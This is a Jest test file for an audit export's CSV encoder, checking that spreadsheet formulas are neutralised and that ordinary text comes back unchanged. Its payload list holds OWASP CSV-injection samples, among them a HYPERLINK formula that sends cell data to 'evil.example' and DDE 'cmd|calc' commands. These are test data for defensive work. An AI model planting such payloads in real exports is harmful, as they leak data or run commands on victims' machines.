/**
 * The audit export's CSV cells: what a spreadsheet would run as a formula is shown as text instead (OWASP CSV
 * injection), and everything else reads back exactly as written.
 */
import { csvCell, csvLine, looksLikeFormula } from '../../src/cli/csv';
import { parseCsv } from '../support/csv';

/** Payloads from OWASP's CSV Injection page and the usual variations. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open the ticket")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+9)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\n=1+1',
  '\u00A0@SUM(A1)',
  '＝1+1',
  '＠SUM(A1)',
];

describe('csvCell', () => {
  test.each(FORMULAS.map((f) => [JSON.stringify(f), f]))('neutralises %s: quoted, with a leading apostrophe', (_name, formula) => {
    expect(looksLikeFormula(formula)).toBe(true);
    const cell = csvCell(formula);
    expect(cell.startsWith(`"'`)).toBe(true);
    const [[read]] = parseCsv(cell);
    // What the spreadsheet gets is text that begins with the apostrophe, then exactly what the person typed.
    expect(read).toBe(`'${formula}`);
  });

  test('leaves ordinary text alone, and quotes only what RFC 4180 needs', () => {
    expect(csvCell('Minji Kim')).toBe('Minji Kim');
    expect(csvCell('2026-03-09T10:00:00.000Z')).toBe('2026-03-09T10:00:00.000Z');
    expect(csvCell('https://tickets.example/SOC-1')).toBe('https://tickets.example/SOC-1');
    expect(csvCell('done - ticket closed')).toBe('done - ticket closed');
    expect(csvCell('Jae, "the lead"')).toBe('"Jae, ""the lead"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
  });

  test('a hostile cell cannot start a new cell or row of its own', () => {
    const line = csvLine(['1', 'Minji', '",=1+1', '\n=2+2', 'x']);
    expect(parseCsv(line)).toEqual([['1', 'Minji', '",=1+1', "'\n=2+2", 'x']]);
    for (const cell of parseCsv(line)[0]) expect(looksLikeFormula(cell)).toBe(false);
  });
});
